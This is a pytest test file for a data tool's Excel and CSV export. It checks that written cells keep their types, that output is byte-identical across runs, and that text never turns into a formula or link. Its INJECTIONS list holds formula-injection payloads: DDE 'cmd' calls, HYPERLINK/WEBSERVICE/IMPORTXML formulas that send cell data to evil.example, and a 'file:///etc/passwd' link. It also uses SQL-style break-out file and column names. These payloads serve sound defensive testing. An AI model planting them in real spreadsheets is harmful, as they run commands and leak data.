"""Excel and CSV: typed cells that say what the data says, never a formula, the same bytes every time."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from steward.core.errors import Invalid, TooLarge
from steward.output import xlsx
from steward.output.csv_files import write_csv
from steward.output.formats import Format
from steward.output.reports import Provenance, SourceVersion, Step
from steward.output.xlsx import Sheet, Written, write_xlsx
from steward.tables.engine import session
from steward.tables.table import Table, describe, literal

Connection = duckdb.DuckDBPyConnection
MADE = datetime(2026, 11, 15, 9, 30, tzinfo=UTC)
INJECTIONS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")',
    "{=1+1}",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "=\u200b1",
    '"=1+1"',
    "http://evil.example",
    "mailto:x@example.com",
    "file:///etc/passwd",
    "internal:Sheet2!A1",
    "0001",
    "1e5",
    "TRUE",
    "#REF!",
    "'quoted",
]


@pytest.fixture(scope="module")
def connection() -> Iterator[Connection]:
    with session() as opened:
        yield opened


def table_of(connection: Connection, sql: str, name: str = "t") -> Table:
    return Table(name, f"({sql})", describe(connection, f"({sql})"))


def texts(values: list[str]) -> str:
    return f"SELECT unnest([{', '.join(map(literal, values))}]) AS text"


def written(connection: Connection, *sheets: Sheet, **options: Any) -> tuple[Any, Written, bytes]:
    target = io.BytesIO()
    given_options: dict[str, Any] = {"provenance": Provenance(), "generated_at": MADE} | options
    result = write_xlsx(target, connection, sheets, **given_options)
    data = target.getvalue()
    return openpyxl.load_workbook(io.BytesIO(data)), result, data


TYPES = """SELECT 42 AS whole, 1234.5::DECIMAL(12,2) AS money, 0.125::DOUBLE AS share, true AS flag,
  DATE '2026-03-31' AS day, TIMESTAMP '2026-03-31 08:05:09.123' AS moment, 'text' AS text, NULL::VARCHAR AS none,
  TIMESTAMPTZ '2026-03-31 08:00:00+02' AS zoned, 12345678901234567890::HUGEINT AS long,
  123456789012345.67::DECIMAL(20,2) AS exact, 'nan'::DOUBLE AS nan, DATE '1850-05-05' AS old,
  DATE 'infinity' AS forever, [1, 2] AS list, {'a': 'ü'} AS struct, 'ab'::BLOB AS bytes, TIME '12:30:00' AS clock,
  INTERVAL 3 DAY AS span, '00000000-0000-0000-0000-000000000001'::UUID AS uuid, '=1' AS formula"""


def test_cells_have_types_and_formats(connection: Connection) -> None:
    sheet = Sheet(
        "Types",
        table_of(connection, TYPES),
        {"money": Format(kind="currency", currency="EUR"), "share": Format(kind="percent")},
    )
    book, result, _ = written(connection, sheet)
    page = book["Types"]
    head = {cell.value: cell.column for cell in page[1]}
    row = {name: page.cell(2, column) for name, column in head.items()}
    assert {name: (cell.value, cell.data_type) for name, cell in row.items()} == {
        "whole": (42, "n"),
        "money": (1234.5, "n"),
        "share": (0.125, "n"),
        "flag": (True, "b"),
        "day": (datetime(2026, 3, 31), "d"),  # noqa: DTZ001
        "moment": (datetime(2026, 3, 31, 8, 5, 9, 123000), "d"),  # noqa: DTZ001
        "text": ("text", "s"),
        "none": (None, "n"),
        "zoned": (datetime(2026, 3, 31, 6), "d"),  # noqa: DTZ001
        "long": ("12345678901234567890", "s"),
        "exact": ("123456789012345.67", "s"),
        "nan": (None, "n"),
        "old": ("1850-05-05", "s"),
        "forever": (None, "n"),
        "list": ("[1, 2]", "s"),
        "struct": ('{"a": "ü"}', "s"),
        "bytes": ("6162", "s"),
        "clock": ("12:30:00", "s"),
        "span": ("3 days", "s"),
        "uuid": ("00000000-0000-0000-0000-000000000001", "s"),
        "formula": ("=1", "s"),
    }
    assert row["whole"].number_format == "#,##0"
    assert row["money"].number_format == "#,##0.00 [$€]"
    assert row["share"].number_format == "0.0%"
    assert row["day"].number_format == "yyyy-mm-dd"
    assert row["moment"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert page.freeze_panes == "A2"
    assert page.auto_filter.ref == f"A1:{row['formula'].coordinate}"
    assert page["A1"].font.bold
    reasons = " ".join(result.notes)
    for column in ("long", "exact", "nan", "old", "forever", "list", "struct", "bytes", "zoned"):
        assert f"Types, {column}: " in reasons
    assert "Types, text: " not in reasons


def test_the_last_sheet_tells_where_it_comes_from(connection: Connection) -> None:
    provenance = Provenance(
        run="run_1",
        sources=(
            SourceVersion(dataset="=sales", version="v7", commit="c1", rows=3, content_hash="ab"),
        ),
        steps=(Step(operation="clean", summary="+trimmed", by="@me"),),
    )
    table = table_of(connection, "SELECT 9999999999999999 AS long")
    book, result, _ = written(
        connection, Sheet("Data", table), provenance=provenance, title="=Title"
    )
    assert result.sheets == ("Data", "About")
    cells = [cell for row in book["About"].iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    values = [cell.value for cell in cells]
    for value in (
        "=Title",
        "2026-11-15 09:30:00",
        "run_1",
        "=sales",
        "v7",
        "c1",
        3,
        "ab",
        "+trimmed",
        "@me",
    ):
        assert value in values
    assert any("more than 15 digits" in str(value) for value in values)
    assert book.properties.created == datetime(2026, 11, 15, 9, 30)  # noqa: DTZ001


def test_no_text_becomes_a_formula_or_a_link(connection: Connection) -> None:
    sql = texts(INJECTIONS)
    renamed = table_of(connection, f'SELECT text AS "=1+1" FROM ({sql})')
    book, result, data = written(
        connection, Sheet("=Sheet", table_of(connection, sql)), Sheet("Header", renamed)
    )
    page = book["=Sheet"]
    found = [page.cell(row, 1) for row in range(2, len(INJECTIONS) + 2)]
    assert all(cell.data_type == "s" for cell in found)
    # Excel writes a carriage return as _x000D_ and reads it back; openpyxl shows the writing.
    assert [cell.value.replace("_x000D_", "\r") for cell in found] == INJECTIONS
    assert book["Header"]["A1"].data_type == "s"
    assert result.notes == ()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            content = archive.read(name).decode()
            assert not re.search(r"<f[ >]", content)
            assert "<hyperlink " not in content.lower()
        assert not any("rels" in name and "sheet" in name for name in archive.namelist())


@settings(max_examples=25)
@given(
    st.lists(
        st.text(st.characters(exclude_categories=["Cs"]), max_size=30), min_size=1, max_size=10
    )
)
def test_any_text_comes_back(connection: Connection, values: list[str]) -> None:
    plain = [value.replace("\0", "") for value in values]
    book, _, _ = written(connection, Sheet("T", table_of(connection, texts(plain))))
    page = book["T"]
    for row, value in enumerate(plain, start=2):
        cell = page.cell(row, 1)
        assert cell.data_type != "f"
        if value.isprintable():
            assert (cell.value or "") == value


def test_the_same_data_is_the_same_file(connection: Connection, tmp_path: Path) -> None:
    table = table_of(
        connection, "SELECT i AS id, 'n' || i AS name, DATE '2026-01-01' AS d FROM range(500) t(i)"
    )
    _, _, first = written(connection, Sheet("Data", table))
    _, _, second = written(connection, Sheet("Data", table))
    assert first == second
    path = tmp_path / "x.xlsx"
    write_xlsx(path, connection, [Sheet("Data", table)], provenance=Provenance(), generated_at=MADE)
    assert path.read_bytes() == first


def test_long_tables_continue_on_further_sheets(connection: Connection) -> None:
    table = table_of(connection, "SELECT i AS id FROM range(25) t(i)")
    book, result, _ = written(connection, Sheet("Rows", table), rows_per_sheet=11)
    assert result.sheets == ("Rows", "Rows (2)", "Rows (3)", "About")
    assert result.rows == 25
    ids = []
    for name in result.sheets[:3]:
        assert book[name]["A1"].value == "id"
        ids += [row[0] for row in book[name].iter_rows(min_row=2, values_only=True)]
    assert ids == list(range(25))
    exact, _, _ = written(connection, Sheet("Rows", table), rows_per_sheet=26)
    assert exact.sheetnames == ["Rows", "About"]


def test_an_empty_table_is_a_sheet_with_a_header(connection: Connection) -> None:
    table = table_of(connection, "SELECT 1 AS a, 'x' AS b WHERE false")
    book, result, _ = written(connection, Sheet("Empty", table))
    assert [cell.value for cell in book["Empty"][1]] == ["a", "b"]
    assert result.rows == 0


def test_sheet_names_are_made_acceptable(connection: Connection) -> None:
    table = table_of(connection, "SELECT 1 AS a")
    names = [
        "a/b:c*d?[e]\\",
        "",
        "'quoted'",
        "x" * 40,
        "X" * 40,
        "History",
        "About",
        "same",
        "SAME",
    ]
    book, result, _ = written(connection, *(Sheet(name, table) for name in names))
    assert list(result.sheets) == [
        "a_b_c_d__e__",
        "Sheet",
        "quoted",
        "x" * 31,
        "X" * 27 + " (2)",
        "History_",
        "About",
        "same",
        "SAME (2)",
        "About (2)",
    ]
    assert book.sheetnames == list(result.sheets)


def test_columns_are_as_wide_as_their_first_rows(connection: Connection) -> None:
    table = table_of(connection, "SELECT 'x' AS a, repeat('y', 30) AS b, repeat('z', 900) AS c")
    book, _, _ = written(connection, Sheet("W", table))
    widths = [book["W"].column_dimensions[letter].width for letter in "ABC"]
    assert [8 <= widths[0] <= 12, 30 < widths[1] < 40, 55 < widths[2] <= 62] == [True] * 3


def test_limits_are_clear_errors(connection: Connection, monkeypatch: pytest.MonkeyPatch) -> None:
    table = table_of(connection, "SELECT i AS a FROM range(10) t(i)")
    with pytest.raises(Invalid, match="at least one sheet"):
        written(connection)
    with pytest.raises(Invalid, match="no column 'b'"):
        written(connection, Sheet("T", table, {"b": Format(kind="integer")}))
    with pytest.raises(Invalid, match="2 to 1,048,576"):
        written(connection, Sheet("T", table), rows_per_sheet=2_000_000)
    monkeypatch.setattr(xlsx, "MAX_CELLS", 5)
    with pytest.raises(TooLarge, match="CSV or Parquet"):
        written(connection, Sheet("T", table))


def test_long_texts_are_cut_and_told(connection: Connection) -> None:
    table = table_of(connection, "SELECT repeat('x', 40000) AS a")
    book, result, _ = written(connection, Sheet("T", table))
    assert len(book["T"]["A2"].value) == 32_767
    assert result.notes == (
        "T, a: texts are cut after 32,767 characters, the most a cell holds (1 cells).",
    )


def read(path: Path, delimiter: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, delimiter=delimiter))


def test_csv_is_exact_unless_asked_to_be_safe(connection: Connection, tmp_path: Path) -> None:
    table = table_of(connection, texts(INJECTIONS))
    path = tmp_path / "x.csv"
    result = write_csv(path, connection, table, spreadsheet_safe=False)
    assert [row[0] for row in read(path)[1:]] == INJECTIONS
    assert result == len(INJECTIONS)


def test_safe_csv_has_no_cell_that_starts_a_formula(connection: Connection, tmp_path: Path) -> None:
    sql = (
        f"SELECT text AS \"=head\", '-12.5' AS number, -3 AS typed, ['=x'] AS list, NULL::VARCHAR AS none "
        f"FROM ({texts(INJECTIONS)})"
    )
    path = tmp_path / "x.csv"
    result = write_csv(
        path, connection, table_of(connection, sql), spreadsheet_safe=True, delimiter=";"
    )
    rows = read(path, ";")
    assert rows[0] == ["'=head", "number", "typed", "list", "none"]
    for row, text in zip(rows[1:], INJECTIONS, strict=True):
        assert row[0] in {text, f"'{text}"}
        assert not re.match(r"\s*[=+\-@＝＋－＠]", row[0])
        assert row[1:3] == ["-12.5", "-3"]
    changed = sum(row[0] != text for row, text in zip(rows[1:], INJECTIONS, strict=True))
    assert result == len(INJECTIONS)
    assert changed >= 14
    assert (
        path.read_bytes()
        == (
            write_csv(
                path, connection, table_of(connection, sql), spreadsheet_safe=True, delimiter=";"
            ),
            path.read_bytes(),
        )[1]
    )


def test_csv_paths_and_names_cannot_break_out(connection: Connection, tmp_path: Path) -> None:
    path = tmp_path / "it's; DROP.csv"
    table = table_of(connection, """SELECT 1 AS "a""; --", 2 AS "'=b", 3 AS "=b" """)
    write_csv(path, connection, table, spreadsheet_safe=True)
    assert read(path) == [['a"; --', "''=b", "'=b"], ["1", "2", "3"]]
    with pytest.raises(Invalid, match="without columns"):
        write_csv(path, connection, Table("t", "t", ()), spreadsheet_safe=True)
